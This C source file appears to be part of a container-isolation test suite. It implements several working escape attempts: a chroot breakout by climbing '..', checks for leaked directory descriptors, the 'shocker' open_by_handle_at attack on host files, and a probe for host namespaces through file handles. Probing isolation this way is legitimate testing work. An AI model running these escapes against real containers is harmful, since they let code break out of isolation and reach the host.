// Out of the root directory.
#include "attack.h"
#include <dirent.h>
#include <sys/mount.h>
#include <sys/sysmacros.h>

static int same(const struct stat *a, const struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }

// mkdir, chroot, climb by "..": leaves a root that was made by chroot(2) alone.
static enum result chroot_breakout(int n, char **a) {
    struct stat root, top;
    stat("/", &root);
    if (mkdir("/tmp/below", 0700) && errno != EEXIST) return stopped_by("mkdir");
    int old = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (chroot("/tmp/below")) return stopped_by("chroot");
    if (fchdir(old)) return stopped_by("fchdir");
    for (int i = 0; i < 200; i++) chdir("..");
    stat(".", &top);
    return same(&root, &top) ? stopped("the top is the container's root") : succeeded("climbed above the root");
}

// The same tools where the root is one that chroot made, in a container of ours: a prison to try the key on.
static enum result chroot_breakout_of_chroot(int n, char **a) {
    mkdir("/tmp/prison", 0700);
    mkdir("/tmp/prison/tmp", 0700);
    if (chroot("/tmp/prison") || chdir("/")) return stopped_by("chroot");
    return chroot_breakout(0, 0);
}

// Descriptors that are not our streams, in this process; "." counts, it may be outside of the root.
static enum result leaked_descriptors(int n, char **a) {
    char target[4096], link[64];
    DIR *fds = opendir("/proc/self/fd");
    if (!fds) return stopped_by("opendir");
    for (struct dirent *entry; (entry = readdir(fds));) {
        int fd = atoi(entry->d_name);
        if (fd < 3 || fd == dirfd(fds)) continue;
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(link, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        return succeeded("descriptor %d is %s", fd, target);
    }
    if (!getcwd(target, sizeof target) || target[0] != '/') return succeeded("the working directory lies outside the root");
    for (int fd = 0; fd < 3; fd++) {   // a stream that is a directory would lead out too
        struct stat status;
        if (!fstat(fd, &status) && S_ISDIR(status.st_mode)) return succeeded("stream %d is a directory", fd);
    }
    return stopped("only the three streams");
}

static enum result leaked_descriptors_kept(int n, char **a) {
    int kept = open("/", O_PATH | O_DIRECTORY);
    return kept < 0 ? stopped_by("open") : leaked_descriptors(0, 0);
}

// A file handle is a key to its whole file system (shocker, 2014): from a file of the host's that is mounted in here to the root of the disk it lies on.
static enum result file_handle(int n, char **a) {
    static const char *const files[] = { "/etc/hosts", "/etc/hostname", "/etc/resolv.conf" };
    for (int i = 0; i < 3; i++) {
        int file = open(files[i], O_RDONLY | O_CLOEXEC);
        struct { struct file_handle head; unsigned char bytes[128]; } handle = { { 128 } };
        int id, opened;
        if (file < 0) continue;
        handle.head.handle_bytes = 128;
        if (name_to_handle_at(file, "", &handle.head, &id, AT_EMPTY_PATH) && (errno == EOPNOTSUPP || errno == EOVERFLOW)) continue;
        opened = open_by_handle_at(file, &handle.head, O_RDONLY);
        if (opened >= 0) return succeeded("%s by its handle", files[i]);
        struct { struct file_handle head; unsigned ino, generation; } top = { { 8, 1 }, 2, 0 };
        top.head.handle_bytes = 8; top.head.handle_type = 1;
        opened = open_by_handle_at(file, &top.head, O_RDONLY);
        if (opened >= 0) return succeeded("the root of the disk");
        if (i == 2) return stopped_by("open_by_handle_at");
    }
    return absent("a file of the host's with handles");
}

// Since Linux 6.18 namespaces have handles too; those of the machine have fixed numbers.
static enum result namespace_handle(int n, char **a) {
    struct { struct file_handle head; unsigned long long id; unsigned type, inum; } handle;
    static const struct { unsigned type, inum; } first[] = {
        { 0x00020000, 0xEFFFFFF8u }, { 0x20000000, 0xEFFFFFFCu }, { 0x04000000, 0xEFFFFFFEu }, { 0x08000000, 0xEFFFFFFFu }, { 0x10000000, 0xEFFFFFFDu }, { 0x02000000, 0xEFFFFFFBu }, { 0x40000000, 0xEFFFFFF9u } };
    for (unsigned id = 0; id < 64; id++)
        for (size_t i = 0; i < sizeof first / sizeof *first; i++) {
            handle.head.handle_bytes = 16;
            handle.head.handle_type = 0xf1;
            handle.id = id; handle.type = first[i].type; handle.inum = id < 16 ? first[i].inum : 0;
            int opened = open_by_handle_at(-10003 /* FD_NSFS_ROOT */, &handle.head, O_RDONLY);
            if (opened >= 0) {
                // One's own may be opened: the host's time namespace, where there is no other.
                struct stat status, own; char path[64];
                static const char *const names[] = { "mnt", "pid", "uts", "ipc", "user", "cgroup", "net", "time" };
                int mine = 0;
                fstat(opened, &status);
                for (int k = 0; k < 8; k++) {
                    snprintf(path, sizeof path, "/proc/self/ns/%s", names[k]);
                    mine |= !stat(path, &own) && own.st_ino == status.st_ino;
                }
                if (!mine) return succeeded("a namespace of the machine, type %x", handle.type);
                close(opened);
            }
            else if (errno == EBADF) return absent("handles of namespaces");
        }
    return stopped_by("open_by_handle_at");
}

// With its working directory outside of the root, ".." leads on.
static enum result outside(int n, char **a) {
    struct stat own, found; char path[4096] = "";
    stat("/", &own);
    for (int i = 0; i < 64; i++) {
        strcat(path, "../");
        if (stat(path, &found)) break;
    }
    if (!stat(path, &found) && !same(&own, &found)) return succeeded("the working directory is outside of the root");
    return stopped("the working directory is inside");
}

const struct attack root[] = {
    { "chroot-breakout", chroot_breakout }, { "chroot-breakout-of-chroot", chroot_breakout_of_chroot }, { "leaked-descriptors", leaked_descriptors },
    { "leaked-descriptors-kept", leaked_descriptors_kept }, { "file-handle", file_handle }, { "namespace-handle", namespace_handle }, { "outside", outside }, { 0 } };
